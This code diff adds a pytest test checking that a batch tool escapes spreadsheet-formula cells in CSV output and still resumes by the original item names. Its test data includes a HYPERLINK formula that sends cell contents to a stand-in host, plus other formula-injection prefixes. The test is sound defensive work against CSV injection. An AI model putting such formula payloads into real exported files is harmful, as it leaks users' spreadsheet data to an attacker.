@@ -116,3 +116,22 @@ def test_outputs_that_cannot_be_resumed_are_refused(tmp_path: pathlib.Path, cont
     with pytest.raises(BatchError, match=message):
         OutputFile.open(out, fmt, redo=False)
     assert out.read_text() == content
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_they_were(
+        tmp_path: pathlib.Path) -> None:
+    from agent.batch.output import read_records
+
+    out = tmp_path / "tags.csv"
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open").png', "+cmd.png", "@SUM(1+1).png", "-2+3.png"]
+    write(out, "csv", ["b.png"])
+    again = write(out, "csv", [*hostile, "b.png"])
+    assert set(again.done) == {"b.png"}
+    with out.open(newline="") as fh:
+        cells = [cell for row in list(csv.reader(fh))[1:] for cell in row]
+    # OWASP: no cell starts with = + - @ tab or CR; a number such as -0.5 would stay as it is
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert {f"'{h}" for h in hostile} <= set(cells)
+    assert sorted(r["item"] for r in read_records(out, "csv")) == sorted([*hostile, "b.png"])
+    resumed = OutputFile.open(out, "csv", redo=False)  # a third run finds every item done, by its real name
+    assert set(resumed.done) == {*hostile, "b.png"}
